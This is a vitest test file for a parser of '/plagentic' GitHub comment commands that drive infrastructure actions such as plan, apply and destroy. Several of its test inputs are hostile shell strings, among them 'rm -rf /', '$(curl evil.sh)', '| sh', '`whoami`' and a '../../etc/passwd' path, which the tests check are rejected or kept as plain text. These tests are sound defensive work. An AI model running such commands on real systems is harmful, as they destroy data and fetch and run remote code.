import { describe, expect, it } from "vitest";
import { helpText, parseComment, usage, validFlags, VERBS } from "../../src/github/commands.js";
import type { Command, ParsedComment } from "../../src/github/commands.js";

const none: ParsedComment = { kind: "none" };
const cmd = (verb: Command["verb"], environment?: string, flags: Command["flags"] = {}): ParsedComment => ({
  kind: "command",
  command: environment === undefined ? { verb, flags } : { verb, environment, flags },
});
const req = (text: string): ParsedComment => ({ kind: "request", text });
/** An error whose message contains every fragment. */
const err = (...fragments: string[]) => ({ error: fragments });

type Expected = ParsedComment | { error: string[] };

const TABLE: [string, string, Expected][] = [
  // not addressed to us
  ["empty body", "", none],
  ["blank lines only", "  \n\t\r\n \n", none],
  ["ordinary comment", "LGTM, ship it", none],
  ["prefix glued to a word", "/plagenticfoo plan", none],
  ["prefix glued to a verb", "/plagenticplan staging", none],
  ["prefix in the middle of a line", "please /plagentic plan staging", none],
  ["quoted command", "> /plagentic plan staging", none],
  ["command on the second line", "thanks!\n/plagentic apply staging", none],
  ["full-width solidus look-alike", "／plagentic plan staging", none],
  ["Cyrillic a look-alike", "/plаgentic plan staging", none],
  ["zero-width space before the prefix", "\u200b/plagentic plan staging", none],
  ["non-breaking space after the prefix", "/plagentic\u00a0plan staging", none],
  ["NUL glued to the prefix", "/plagentic\u0000plan staging", none],
  [
    "Kelvin sign in a verb (folds to unlock)",
    "/plagentic unloc\u212A staging",
    err("not a command", "ASCII"),
  ],
  ["long s in a verb (folds to status)", "/plagentic \u017Ftatus", err("not a command", "ASCII")],
  ["dotted capital I in the prefix", "/PLAGENT\u0130C plan staging", none],
  ["Kelvin sign in the prefix", "/plagentic\u212A plan staging", none],
  ["command inside an HTML comment", "<!-- /plagentic apply staging -->", none],
  ["bot's own sticky comment", "<!-- plagentic:plan:staging -->\n### Plagentic plan", none],
  ["inline code", "`/plagentic plan staging`", none],
  ["backslash prefix", "\\plagentic plan", none],
  ["prefix without slash", "plagentic plan staging", none],

  // help
  ["prefix alone", "/plagentic", cmd("help")],
  ["prefix alone with spaces", "   /plagentic   ", cmd("help")],
  ["help verb", "/plagentic help", cmd("help")],
  ["help in capitals", "/plagentic HELP", cmd("help")],
  [
    "help takes no environment",
    "/plagentic help staging",
    err("`help` takes no arguments", "/plagentic help"),
  ],
  ["help takes no flags", "/plagentic help --verbose", err("`help` takes no arguments")],
  ["prefix alone then more lines", "/plagentic\nplan staging", cmd("help")],

  // plan and its alias
  ["plan without environment", "/plagentic plan", cmd("plan")],
  ["plan staging", "/plagentic plan staging", cmd("plan", "staging")],
  ["provision alias", "/plagentic provision staging", cmd("plan", "staging")],
  ["alias case-insensitive", "/plagentic Provision staging", cmd("plan", "staging")],
  ["capitalised prefix from a phone", "/Plagentic plan staging", cmd("plan", "staging")],
  ["verb in capitals", "/plagentic PLAN staging", cmd("plan", "staging")],
  ["trailing word environment", "/plagentic provision staging environment", cmd("plan", "staging")],
  ["trailing word env", "/plagentic plan staging env", cmd("plan", "staging")],
  ["trailing Environment capitalised", "/plagentic plan staging Environment", cmd("plan", "staging")],
  ["environment named env", "/plagentic plan env", cmd("plan", "env")],
  ["-e flag", "/plagentic plan -e staging", cmd("plan", "staging")],
  ["--env flag", "/plagentic plan --env staging", cmd("plan", "staging")],
  ["--env= flag", "/plagentic plan --env=staging", cmd("plan", "staging")],
  ["verbose", "/plagentic plan staging --verbose", cmd("plan", "staging", { verbose: true })],
  [
    "flags before environment",
    "/plagentic plan --verbose staging",
    cmd("plan", "staging", { verbose: true }),
  ],
  [
    "team flag",
    "/plagentic plan staging --team aws-infrastructure",
    cmd("plan", "staging", { team: "aws-infrastructure" }),
  ],
  [
    "team= flag",
    "/plagentic plan --team=gcp-infrastructure",
    cmd("plan", undefined, { team: "gcp-infrastructure" }),
  ],
  [
    "all flags",
    "/plagentic plan --env=prod-eu_1 --team platform --verbose",
    cmd("plan", "prod-eu_1", { team: "platform", verbose: true }),
  ],
  ["tabs and extra spaces", "/plagentic \t plan\t\tstaging   ", cmd("plan", "staging")],
  ["CRLF line ending", "/plagentic plan staging\r\nthanks", cmd("plan", "staging")],
  ["leading blank lines and indentation", "\r\n\n   /plagentic plan staging", cmd("plan", "staging")],
  ["later lines are ignored", "/plagentic plan staging\n/plagentic apply prod", cmd("plan", "staging")],
  [
    "repeated --verbose is harmless",
    "/plagentic plan --verbose --verbose",
    cmd("plan", undefined, { verbose: true }),
  ],
  ["63-character environment", `/plagentic plan a${"b".repeat(62)}`, cmd("plan", `a${"b".repeat(62)}`)],
  ["digit-first environment", "/plagentic plan 1st", cmd("plan", "1st")],

  // other verbs
  ["apply", "/plagentic apply", cmd("apply")],
  ["apply staging verbose", "/plagentic apply staging --verbose", cmd("apply", "staging", { verbose: true })],
  ["destroy with environment", "/plagentic destroy staging", cmd("destroy", "staging")],
  [
    "destroy with -e and team",
    "/plagentic destroy -e dev --team platform",
    cmd("destroy", "dev", { team: "platform" }),
  ],
  ["drift", "/plagentic drift production", cmd("drift", "production")],
  ["drift verbose", "/plagentic drift --verbose", cmd("drift", undefined, { verbose: true })],
  ["unlock", "/plagentic unlock staging", cmd("unlock", "staging")],
  ["unlock everything", "/plagentic unlock", cmd("unlock")],
  ["status", "/plagentic status", cmd("status")],
  ["status with environment", "/plagentic status --env=staging", cmd("status", "staging")],

  // malformed commands
  [
    "destroy without environment",
    "/plagentic destroy",
    err("`destroy` needs an environment", "/plagentic destroy <environment>"),
  ],
  ["destroy with only flags", "/plagentic destroy --verbose", err("`destroy` needs an environment")],
  [
    "extra word after environment",
    "/plagentic apply staging please",
    err("unexpected `please`", "usage: `/plagentic apply [environment]"),
  ],
  ["two positional environments", "/plagentic plan staging production", err("unexpected `production`")],
  [
    "positional and -e",
    "/plagentic plan staging -e production",
    err("two environments given", "`staging`", "`production`"),
  ],
  ["-e twice", "/plagentic plan -e a -e b", err("two environments given")],
  ["same environment twice", "/plagentic plan staging --env staging", err("two environments given")],
  ["--env= after positional", "/plagentic plan staging --env=staging", err("two environments given")],
  [
    "capitalised environment",
    "/plagentic plan Staging",
    err("`Staging` is not a valid environment name", "did you mean `staging`"),
  ],
  [
    "environment with dot",
    "/plagentic plan prod.eu",
    err("`prod.eu` is not a valid environment name", "lowercase"),
  ],
  ["underscore-first environment", "/plagentic plan _x", err("`_x` is not a valid environment name")],
  [
    "64-character environment",
    `/plagentic plan a${"b".repeat(63)}`,
    err("is not a valid environment name", "63"),
  ],
  ["path traversal environment", "/plagentic plan ../../etc/passwd", err("is not a valid environment name")],
  [
    "shell metacharacters",
    "/plagentic plan staging;rm -rf /",
    err("`staging;rm` is not a valid environment name"),
  ],
  [
    "command substitution",
    "/plagentic apply $(curl evil.sh)",
    err("`$(curl` is not a valid environment name"),
  ],
  ["pipe after environment", "/plagentic plan staging | sh", err("unexpected `|`")],
  [
    "backticks in environment",
    "/plagentic plan `whoami`",
    err("is not a valid environment name", "`` `whoami` ``"),
  ],
  [
    "unknown flag",
    "/plagentic plan --force",
    err("unknown flag `--force` for `plan`", "`--env <environment>`", "`--team <name>`", "`--verbose`"),
  ],
  [
    "flag not valid for the verb",
    "/plagentic apply --team platform",
    err("unknown flag `--team` for `apply`", "`--verbose`"),
  ],
  [
    "verbose not valid for unlock",
    "/plagentic unlock --verbose",
    err("unknown flag `--verbose` for `unlock`", "`--env <environment>`"),
  ],
  ["flags are case-sensitive", "/plagentic plan --Verbose", err("unknown flag `--Verbose`")],
  ["-e= is not a form", "/plagentic plan -e=staging", err("unknown flag `-e=staging`")],
  ["single-dash flag", "/plagentic plan -v", err("unknown flag `-v`")],
  ["lone dash", "/plagentic plan -", err("unknown flag `-`")],
  ["--verbose with a value", "/plagentic plan --verbose=yes", err("`--verbose` takes no value")],
  ["-e without value", "/plagentic plan -e", err("`-e` needs a value")],
  ["--env followed by a flag", "/plagentic plan --env --verbose", err("`--env` needs a value")],
  ["--env= empty", "/plagentic plan --env=", err("`--env` needs a value")],
  ["--team without value", "/plagentic plan --team", err("`--team` needs a value")],
  ["--team twice", "/plagentic plan --team a --team b", err("`--team` given twice")],
  ["invalid team name", "/plagentic plan --team ../etc", err("`../etc` is not a valid team name")],
  [
    "flag before the verb",
    "/plagentic --verbose plan",
    err("expected a command before `--verbose`", "`plan` (alias `provision`)", "`help`"),
  ],
  [
    "long word is shortened in the error",
    `/plagentic plan ${"X".repeat(300)}`,
    err(`\`${"X".repeat(40)}…\``),
  ],
  ["mention in a word cannot ping", "/plagentic apply staging @octocat", err("unexpected `@octocat`")],
  ["HTML after the command", "/plagentic apply staging <!-- hidden -->", err("unexpected `<!--`")],
  ["NUL inside the command", "/plagentic plan stag\u0000ing", err("control or invisible characters")],
  [
    "bidi override inside the command",
    "/plagentic plan \u202egnigats",
    err("control or invisible characters"),
  ],
  [
    "zero-width joiner inside the command",
    "/plagentic plan stag\u200ding",
    err("control or invisible characters"),
  ],
  ["lone CR inside the line", "/plagentic plan staging\rapply prod", err("control or invisible characters")],
  [
    "overlong command line",
    `/plagentic plan staging${" ".repeat(1_100)}x`,
    err("longer than 1,000 characters"),
  ],
  ["environment that is a verb is still an environment", "/plagentic plan apply", cmd("plan", "apply")],

  // requests in plain words
  ["request", "/plagentic add two t3.small workers to staging", req("add two t3.small workers to staging")],
  [
    "request over several lines",
    "/plagentic add a bucket\nfor the logs\r\nplease",
    req("add a bucket\nfor the logs\nplease"),
  ],
  [
    "request with leading blank lines after",
    "/plagentic scale web\n\n\n  to 4  \n\n",
    req("scale web\n\n\n  to 4"),
  ],
  [
    "request keeps shell text as text",
    "/plagentic run $(rm -rf /) && echo `id`",
    req("run $(rm -rf /) && echo `id`"),
  ],
  ["request loses NUL bytes", "/plagentic add\u0000 a queue", req("add a queue")],
  ["request starting with a verb-like word", "/plagentic planning is hard", req("planning is hard")],
  ["request in capitals", "/PLAGENTIC Add workers", req("Add workers")],
  [
    "request with unicode",
    "/plagentic ajoute deux machines à staging 🚀",
    req("ajoute deux machines à staging 🚀"),
  ],
];

describe("parseComment", () => {
  it("has a long table", () => {
    expect(TABLE.length).toBeGreaterThanOrEqual(60);
  });

  it.each(TABLE)("%s", (_name, input, expected) => {
    const got = parseComment(input);
    if ("error" in expected) {
      expect(got.kind).toBe("error");
      const message = got.kind === "error" ? got.message : "";
      for (const fragment of expected.error) expect(message).toContain(fragment);
    } else {
      expect(got).toEqual(expected);
    }
  });

  it("error messages never carry a raw mention or raw HTML outside a code span", () => {
    for (const [, input] of TABLE) {
      const got = parseComment(input);
      if (got.kind !== "error") continue;
      const outsideCode = got.message.replace(/(`+)[\s\S]*?\1/g, "");
      expect(outsideCode).not.toMatch(/@\w|<!--|<\w/);
    }
  });
});

describe("parseComment on hostile sizes", () => {
  it("caps a request at 4,000 characters", () => {
    const got = parseComment(`/plagentic ${"word ".repeat(200_000)}`);
    expect(got.kind).toBe("request");
    expect(got.kind === "request" && got.text.length).toBe(4_000 - 1);
    expect(got.kind === "request" && got.text.endsWith("word")).toBe(true);
  });

  it("caps a request that continues over a megabyte of lines", () => {
    const body = `/plagentic add workers\n${"x\n".repeat(500_000)}`;
    const got = parseComment(body);
    expect(got.kind === "request" && got.text.length).toBeLessThanOrEqual(4_000);
    expect(got.kind === "request" && got.text.startsWith("add workers\nx\nx")).toBe(true);
  });

  it("does not cut a surrogate pair when capping", () => {
    const got = parseComment(`/plagentic ${"a".repeat(3_999)}😀😀`);
    expect(got).toEqual(req("a".repeat(3_999)));
  });

  it("finds a command after a megabyte of blank lines", () => {
    expect(parseComment(`${" \r\n".repeat(350_000)}/plagentic apply staging`)).toEqual(
      cmd("apply", "staging"),
    );
  });

  it("ignores a megabyte of text that is not addressed to us", () => {
    expect(parseComment("a".repeat(1_000_000))).toEqual(none);
    expect(parseComment(`${"/plagentic".repeat(100_000)}`)).toEqual(none);
  });

  it("rejects a megabyte command line", () => {
    const got = parseComment(`/plagentic plan ${"staging ".repeat(130_000)}`);
    expect(got.kind).toBe("error");
  });

  it("treats a body of NUL bytes as nothing", () => {
    expect(parseComment("\u0000".repeat(1_000_000))).toEqual(none);
  });
});

describe("usage and helpText", () => {
  it("writes usage from the grammar", () => {
    expect(usage("apply")).toBe("/plagentic apply [environment] [--verbose]");
    expect(usage("destroy")).toBe("/plagentic destroy <environment> [--team <name>] [--verbose]");
    expect(usage("help")).toBe("/plagentic help");
    expect(validFlags("help")).toEqual([]);
    expect(validFlags("unlock")).toEqual(["--env <environment>"]);
  });

  it("lists every verb, the alias and the environments", () => {
    const text = helpText(["staging", "production"]);
    for (const v of VERBS) expect(text).toContain(`\`${usage(v)}\``);
    expect(text).toContain("provision");
    expect(text).toContain("Environments: `production`, `staging`.");
  });

  it("says when no environment exists", () => {
    expect(helpText([])).toContain("No environments are defined yet");
  });

  it("every usage it prints parses", () => {
    for (const v of VERBS) {
      const example = usage(v).replace(/[[\]]/g, "").replace("<environment>", "dev").replace("<name>", "t");
      expect(parseComment(example)).toMatchObject({ kind: "command", command: { verb: v } });
    }
  });
});
